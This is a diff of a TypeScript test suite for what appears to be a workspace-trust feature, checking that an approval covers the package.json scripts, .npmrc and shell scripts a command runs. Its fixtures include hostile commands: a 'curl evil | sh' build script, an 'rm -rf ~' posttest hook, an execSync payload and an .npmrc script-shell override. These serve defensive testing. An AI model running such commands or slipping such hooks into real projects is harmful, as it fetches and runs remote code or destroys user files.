@@ -52,7 +52,9 @@ describe('trust covers what a command runs (commandTargets)', function () {
     write(root, 'scripts/test.js', 'console.log(1)\n');
     const commands = { build: 'npm run build', test: ['npm', 'test'] };
     assert.deepEqual(labels(root, commands), [
+      '.npmrc',
       'gen.sh',
+      'package.json',
       'package.json scripts.build',
       'package.json scripts.prebuild',
       'package.json scripts.test',
@@ -63,10 +65,10 @@ describe('trust covers what a command runs (commandTargets)', function () {
 
     const pkg = (scripts: Record<string, string>) => write(root, 'package.json', JSON.stringify({ scripts }));
     pkg({ build: 'tsc -p .', prebuild: './gen.sh', test: 'node scripts/test.js', lint: 'changed' });
-    assert.equal(consentState(root, commands).trusted, true, 'a script no command runs is not covered');
+    assert.deepEqual(consentState(root, commands).changes, ['package.json changed'], 'npm reads all of package.json');
     pkg({ build: 'curl evil | sh', prebuild: './gen.sh', test: 'node scripts/test.js' });
-    assert.deepEqual(consentState(root, commands).changes, ['package.json scripts.build changed']);
-    pkg({ build: 'tsc -p .', prebuild: './gen.sh', test: 'node scripts/test.js' });
+    assert.deepEqual(consentState(root, commands).changes, ['package.json changed', 'package.json scripts.build changed']);
+    pkg({ build: 'tsc -p .', prebuild: './gen.sh', test: 'node scripts/test.js', lint: 'x' });
     assert.equal(consentState(root, commands).trusted, true, 'back as approved');
     write(root, 'scripts/test.js', 'require("child_process").execSync("id")\n');
     assert.deepEqual(consentState(root, commands).changes, ['scripts/test.js changed']);
@@ -74,26 +76,59 @@ describe('trust covers what a command runs (commandTargets)', function () {
     write(root, 'gen.sh', 'echo changed\n');
     assert.deepEqual(consentState(root, commands).changes, ['gen.sh changed'], 'the prebuild script npm runs first is covered');
     write(root, 'gen.sh', 'echo gen\n');
-    pkg({ build: 'tsc -p .', prebuild: './gen.sh', test: 'node scripts/test.js', posttest: 'rm -rf ~' });
-    assert.deepEqual(consentState(root, commands).changes, ['package.json scripts.posttest was not covered by the approval']);
+    pkg({ build: 'tsc -p .', prebuild: './gen.sh', test: 'node scripts/test.js', lint: 'x', posttest: 'rm -rf ~' });
+    assert.deepEqual(consentState(root, commands).changes, [
+      'package.json changed',
+      'package.json scripts.posttest was not covered by the approval',
+    ]);
   });
 
-  it('what a command runs, word by word: programs and scripts are covered; data files (outputs) are not', () => {
+  it('what a command runs, word by word: every word naming a repository file is covered; redirections and -o/--out values are not', () => {
     const root = makeTempDir();
     for (const f of ['build.sh', 'deploy.sh', 'tools/check.py', 'setup.js', 'app.js', 'Makefile', 'dist/out.js', 'marker'])
       write(root, f, f);
     assert.deepEqual(labels(root, { build: ['sh', '-c', './build.sh > dist/out.js && echo done > marker'] }), ['build.sh']);
     assert.deepEqual(labels(root, { build: 'bash -lc "FOO=1 ./deploy.sh --staging; python3 tools/check.py dist/out.js"' }), [
       'deploy.sh',
+      'dist/out.js',
       'tools/check.py',
     ]);
-    assert.deepEqual(labels(root, { build: 'node -r ./setup.js app.js dist/out.js' }), ['app.js', 'setup.js']);
-    assert.deepEqual(labels(root, { build: 'env CI=1 npx ./build.sh' }), ['build.sh']);
+    assert.deepEqual(labels(root, { build: 'node -r ./setup.js app.js dist/out.js' }), ['app.js', 'dist/out.js', 'setup.js']);
+    assert.deepEqual(labels(root, { build: 'node app.js -o dist/out.js --outFile=marker' }), ['app.js']);
+    assert.deepEqual(labels(root, { build: 'env CI=1 npx ./build.sh' }), ['.npmrc', 'build.sh', 'package.json']);
     assert.deepEqual(labels(root, { build: 'make all' }), ['Makefile']);
     assert.deepEqual(labels(root, { build: ['node', '-e', "require('fs').writeFileSync('marker', 'x')"] }), []);
     assert.deepEqual(labels(root, { build: 'tsc -p . --outFile dist/out.js' }), [], 'an installed program writing a repository file');
     assert.deepEqual(labels(root, { build: './missing.sh' }), ['missing.sh'], 'a script that is not there yet is covered as missing');
     assert.equal(commandTargets(root, { build: './missing.sh' })['missing.sh'], null);
+  });
+
+  it('fails closed on command shapes it does not parse: wrappers, options, snippets with cd, npm install, --prefix, make -f, .npmrc', () => {
+    const root = makeTempDir();
+    for (const f of ['build.sh', '..build.sh', 's.js', 'b.js', 't/build.sh', 'build.mk', 'Makefile']) write(root, f, f);
+    write(root, 'package.json', JSON.stringify({ scripts: { postinstall: 'echo ok' } }));
+    write(root, 'sub/package.json', JSON.stringify({ scripts: { build: 'echo ok' } }));
+    const cases: [string | string[], string[]][] = [
+      ['nice -n 5 ./build.sh', ['build.sh']],
+      ['timeout 60 ./build.sh', ['build.sh']],
+      ['./..build.sh', ['..build.sh']],
+      ['bash -o errexit build.sh', ['build.sh']],
+      ['node --require=./s.js b.js', ['b.js', 's.js']],
+      [
+        ['sh', '-c', 'cd t && ./build.sh'],
+        ['build.sh', 't/build.sh'],
+      ], // both: the cd may fail
+      ['npm install', ['.npmrc', 'package.json']],
+      ['npm --prefix sub run build', ['.npmrc', 'package.json', 'sub/package.json']],
+      ['make -f build.mk', ['Makefile', 'build.mk']],
+    ];
+    for (const [command, expected] of cases) {
+      const got = labels(root, { build: command }).filter((l) => !l.startsWith('package.json scripts.'));
+      assert.deepEqual(got, expected, JSON.stringify(command));
+    }
+    grantConsent(root, { build: 'npm run build' });
+    write(root, '.npmrc', 'script-shell=./sh2\n');
+    assert.deepEqual(consentState(root, { build: 'npm run build' }).changes, ['.npmrc appeared']);
   });
 
   it('a script that appears after the approval asks again; a command that runs no repository file keeps its digest', () => {
